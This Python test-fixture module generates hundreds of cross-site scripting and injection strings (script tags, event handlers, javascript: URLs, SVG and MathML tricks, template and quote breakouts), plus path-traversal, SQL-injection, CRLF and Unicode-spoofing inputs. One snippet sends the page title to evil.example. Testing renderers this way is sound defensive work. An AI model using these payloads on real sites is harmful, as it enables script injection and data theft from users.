"""Texts that would do harm in a page that reads them as anything but text: each would set window.pwned or show a
dialog, ask a server, or change what is on the page."""

from __future__ import annotations

import random
from collections.abc import Sequence
from itertools import product

JS = (
    "window.pwned=1",
    "parent.pwned=1",
    "top['pwned']=1",
    "alert(1)",
    "fetch('//evil.example/'+document.title)",
    "self['pwn'+'ed']=1",
)
IN_MARKUP: Sequence[str] = (
    "<script>{js}</script>",
    "</script><script>{js}</script>",
    "</style><script>{js}</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "<!--><script>{js}</script>-->",
    "--!><script>{js}</script>",
    "]]><script>{js}</script>",
    "<scr\x00ipt>{js}</scr\x00ipt>",
    "<script\n>{js}</script\t>",
    "<SCRIPT SRC=data:text/javascript,{js}></SCRIPT>",
    "<script type=module>{js}</script>",
    "<img src=x onerror={js}>",
    '<img src=x onerror="{js}">',
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    "` onerror={js} x=`",
    '" autofocus onfocus={js} x="',
    "' tabindex=1 onfocus={js} autofocus x='",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{js}"><text>x</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>{js}</script>"></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg onload={js}>"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
    '<math href="javascript:{js}">x</math>',
    "<body onload={js}>",
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<object data="javascript:{js}"></object>',
    '<embed src="data:text/html,<script>{js}</script>">',
    '<a href="javascript:{js}">click</a>',
    '<a href=" java\tscript:{js}">click</a>',
    '<form action="javascript:{js}"><input type=submit autofocus></form>',
    '<button formaction="javascript:{js}">x</button>',
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<input onfocus={js} autofocus>",
    "<select onfocus={js} autofocus></select>",
    '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    '<base href="javascript:{js}//">',
    '<link rel=stylesheet href="data:text/css,*{{background:url(//evil.example)}}">',
    "<template><script>{js}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<style>@import '//evil.example/x.css';</style>",
    "<xmp><script>{js}</script></xmp>",
    "<plaintext><script>{js}</script>",
    '<p style="background:url(javascript:{js})">x</p>',
    '<p style="animation:x;--x:expression({js})">x</p>',
    "<x onclick={js} style=position:fixed;inset:0>x</x>",
    "<object id=overview></object><a id=state href=javascript:{js}>x</a>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "%3Cscript%3E{js}%3C/script%3E",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "{{% {js} %}}",
    "[[${{{js}}}]]",
    "{{{{{js}}}}}",
    'v-html="{js}" ng-app ng-init="{js}"',
    "javascript:{js}",
    "JaVaScRiPt:{js}//",
    "data:text/html,<script>{js}</script>",
    "vbscript:{js}",
    "';{js};//",
    '";{js};//',
    "`;{js};//",
    "\\';{js};//",
    "*/{js}/*",
    "}};{js};{{",
    "</b-overview>{js}",
    "__proto__[pwned]={js}",
    "constructor",
    "#episode/0?color={js}",
)
PLAIN: Sequence[str] = (
    "__proto__",
    "toString",
    "hasOwnProperty",
    "url(//evil.example/x.png)",
    "red;background:url(//evil.example/x.png)",
    "expression(window.pwned=1)",
    "} * { display: none } x {",
    "/* */ @import url(//evil.example);",
    "\u202egnp.exe\u202c right to left",
    "\u2066hidden\u2069\u2067\u200f",
    "zero\u200bwidth\u2060\ufeff\u00ad",
    "null\x00byte and bell\x07 and escape\x1b[31m",
    "\x1b]0;title\x07\x9b2J",
    "lone \ud800 and \udfff surrogates",
    "tags \U000e0041\U000e0042\U000e007f",
    "variation \U000e0100\ufe0f",
    "Z\u0351\u036b\u0343\u036a\u0302a\u030d\u0313l\u0326\u031dg\u0355\u0301o",
    "\u2028line\u2029separators\x85",
    "\ufdfd" * 20,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\u200d\u2620\ufe0f",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "\xbcscript\xbewindow.pwned=1\xbc/script\xbe",
    "\r\n\r\n<html>\r\nSet-Cookie: a=b",
    "NaN",
    "1e999",
    "%s%n%x",
    "../../../../etc/passwd",
    "' OR 1=1 --",
)


def strings(total: int = 500) -> list[str]:
    """`total` different ones. Each ends with its number, so that no two are equal."""
    made = [form.replace("{js}", js).replace("{{", "{").replace("}}", "}") for js, form in product(JS, IN_MARKUP)]
    made = [*PLAIN, *made]
    random.Random(0).shuffle(made)
    if len(made) < total:
        raise ValueError(f"{len(made)} forms are fewer than {total}")
    return [f"{text} {i:03d}" for i, text in enumerate(made[:total])]


def harmless(hostile: Sequence[str]) -> list[str]:
    """As long as those, in a browser's count, with words and lines in the same places, and as different."""
    return [_tamed(text) for text in hostile]


def _tamed(text: str) -> str:
    head, number = text[:-4], text[-4:]
    units = "".join("xx" if ord(c) > 0xFFFF else "x" for c in head)
    return units + number
